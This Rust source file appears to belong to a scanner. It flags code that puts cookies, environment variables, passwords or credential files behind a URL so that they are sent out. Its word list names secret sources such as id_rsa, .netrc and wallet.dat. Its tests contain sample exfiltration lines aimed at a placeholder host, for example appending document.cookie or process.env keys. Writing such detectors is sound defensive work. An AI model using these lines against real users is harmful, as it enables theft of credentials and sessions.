//! Programs that put what the machine or its user has behind an address: `"https://h/?q=" + btoa(document.cookie)`.
//!
//! Most programs put something behind an address; it counts what it is called, or what text it is. *Security*: hostile bytes;
//! reads the rest of one line, for a bounded length.

use memchr::memmem;

use super::carried::encoded_text;
use super::naming::{is_confidential, is_private};
use super::url::Url;
use crate::rule::Strength::{self, Addressed, Mentioned};

/// How far the expression behind an address is read, bytes.
const BEHIND_BYTES_MAX: usize = 160;

/// What no honest program puts there, nor sends there.
const TAKEN: [&str; 62] = [
    "document.cookie",
    "document.referrer",
    "document.location",
    "document.title",
    "document.body",
    "document.forms",
    "document.documentelement",
    "$_session",
    "$_cookie",
    "$_post",
    "localstorage",
    "sessionstorage",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "id_rsa",
    ".aws/",
    ".ssh/",
    ".kube/",
    ".gem/credentials",
    ".netrc",
    "wallet.dat",
    "cookies.sqlite",
    "application.properties",
    "wp-config",
    "\".env\"",
    "'.env'",
    "pw.txt",
    "secrets.",
    "btoa(",
    "b64encode",
    "base64_encode",
    "dict(os.environ",
    "str(os.environ",
    "sys.getenv()",
    "clipboard",
    "pasteboard",
    "innerhtml",
    "outerhtml",
    "innertext",
    "textcontent",
    "getselection",
    "process.env",
    "self.name",
    "window.name",
    "state.token",
    "state.user",
    "activecell",
    ").value",
    ".password.value",
    ".password",
    "#password",
    "form#login",
    "environ(",
    "hostname()",
    "getusername(",
    "getlogin(",
    "userinfo()",
    "open(__file__)",
    "environment.username",
    ".to_csv(",
    "environment.tostring",
];

/// What a program puts into an address only to tell its owner; behind a sign that joins texts alone.
const JOINED: [&str; 24] = [
    "getenv",
    "os.environ",
    "environ[",
    "env[\"",
    "env['",
    "env.fetch",
    "sys.env",
    "deno.env",
    "getproperty(\"user",
    "getproperty \"user",
    "getenvironmentvariable",
    "$env:",
    "$_server",
    "$env(",
    "gethostname",
    "getcwd()",
    "request.environ",
    "activeworkbook",
    "thisworkbook",
    "application.username",
    "headers.get(",
    "tojson(",
    "json.stringify(",
    "readfile",
];

/// The signs by which languages join two texts, the longest first.
const JOINTS: [&[u8]; 12] = [b"++", b"..", b"||", b"<>", b"+", b".", b"&", b"%", b"^", b"~", b",", b"<<"];

/// How bad what follows the end of an address is, if anything does.
pub(super) fn continued(bytes: &[u8], url: &Url) -> Option<Strength> {
    let rest = bytes.get(url.range.end..)?;
    let line = rest.get(..rest.len().min(BEHIND_BYTES_MAX))?.split(|byte| *byte == b'\n').next()?;
    // The sign that wants a value was taken for the end of a sentence.
    let is_asking = matches!(line.first(), Some(b'?'))
        || url.query.as_deref().is_some_and(|query| query.is_empty() || query.ends_with(b"="));
    let line = line.strip_prefix(b"?").unwrap_or(line);
    let line = line.strip_prefix(b"\\").unwrap_or(line);
    let (b'"' | b'\'' | b'`', behind) = line.split_first().map(|(first, rest)| (*first, rest))? else { return None };
    let low = behind.to_ascii_lowercase();
    let tail = low.trim_ascii_start();
    // Of a pair of brackets that closes, the call may go on.
    let is_called = matches!(tail.first(), Some(b')' | b']'));
    let joint = JOINTS.iter().find(|joint| tail.starts_with(joint));
    if joint.is_none() && !is_called {
        return None;
    }
    if TAKEN.iter().any(|word| memmem::find(&low, word.as_bytes()).is_some()) {
        return Some(Addressed);
    }
    if joint.is_some_and(|joint| joint.starts_with(b",")) {
        return formatted(url, tail).then_some(Addressed);
    }
    let joint = joint.filter(|_| !is_called)?;
    let is_joined = is_asking || url.path.len() > 1 && url.path.ends_with(b"/");
    let literals = || behind.split(|byte| matches!(byte, b'\'' | b'"')).skip(1).step_by(2);
    if is_joined && literals().any(|literal| memmem::find(literal, b"%3D").is_some() || encoded_text(literal).is_some())
    {
        return Some(Addressed);
    }
    if is_joined && JOINED.iter().any(|word| memmem::find(&low, word.as_bytes()).is_some()) {
        return Some(Addressed);
    }
    let names =
        || tail.get(joint.len()..).unwrap_or_default().split(|byte| !is_part(*byte)).filter(|name| name.len() > 1);
    let first = names().next()?;
    let told = names().take(8).filter(|name| is_private(name) || is_confidential(name)).count();
    match () {
        () if is_asking && (is_private(first) || told > 1) => Some(Addressed),
        () if is_asking && is_confidential(first) => Some(Mentioned),
        () => None,
    }
}

/// Whether an address with gaps for a program's values is followed by what is to fill them, and that is private.
fn formatted(url: &Url, tail: &[u8]) -> bool {
    let behind = [url.path.as_slice(), b"?", url.query.as_deref().unwrap_or_default()].concat();
    let is_format = ["%s", "{}", "%1$s", "{0}"].iter().any(|gap| memmem::find(&behind, gap.as_bytes()).is_some());
    let values = tail.split(|byte| !is_part(*byte)).filter(|name| name.len() > 1).take(6);
    is_format && values.into_iter().any(|name| is_private(name) || matches!(name, b"pass" | b"pw" | b"pwd"))
}

/// Whether a byte may be part of what a program calls a value, calls included.
const fn is_part(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'$' | b'(' | b'[' | b'#')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Option<Strength> {
        continued(text.as_bytes(), &Url::at(text.as_bytes(), text.find("//").unwrap()).unwrap())
    }

    #[test]
    fn what_is_taken_from_a_machine_or_its_user_is_addressed() {
        for text in [
            "fetch('https://h.example/?' + getSelection())",
            "x = \"https://h.example/?q=\" & Range(\"B2\").Value",
            "get('https://h.example/'+Buffer.from(process.env.KEY))",
            "i.src = 'https://h.example/?'+encodeURIComponent('dXNlcj1hZGFAZXhhbXBsZS5jb20')",
            r#"\"https://h.example/?a=\" + document.cookie"#,
            "navigator.sendBeacon(\"https://h.example/v\", JSON.stringify({p: form.password.value}))",
            "post(URI(\"https://h.example/i\"), File.read(\"/home/eve/.netrc\"))",
            "printf(\"https://h.example/?u=%s&p=%s\", user, pass)",
            "simpleHttp (\"https://h.example/?k=\" ++ secretKey)",
            "slurp (str \"https://h.example/?a=\" ^ Sys.getenv \"USER\")",
            "get('https://h.example/?p='||password) FROM users",
            "request(\"https://h.example/?p=\" .. cookie_session)",
            "fetch('https://h.example/m?u='+e.email+'&a='+e.headers.token)",
            "Run, % \"https://h.example/?line=\" . os.environ[\"KEY\"]",
        ] {
            assert_eq!(of(text), Some(Addressed), "{text}");
        }
        assert_eq!(of("open(\"https://h.example/?a=\" + sessionToken)"), Some(Mentioned));
    }

    #[test]
    fn ordinary_programs_are_not() {
        for text in [
            "get(\"https://h.example/users/\" + id)",
            "get(\"https://h.example/items?page=\" + page)",
            "get('https://h.example/token', token)",
            "['https://h.example/', 'https://h.example/b']",
            "see https://h.example/ + token",
            "get(\"https://h.example/v1\", headers={\"Authorization\": os.getenv(\"KEY\")})",
            "get(\"https://h.example/a?page=\" + str(n)) # tokens",
            "printf(\"https://h.example/users/%s\", id)",
            "open(\"https://h.example/share?url=\" + location.href)",
            "(\"https://h.example/\"). The password is never sent",
            "{\"url\": \"https://h.example/a?b=\", \"token\": 1}",
        ] {
            assert_eq!(of(text), None, "{text}");
        }
    }
}
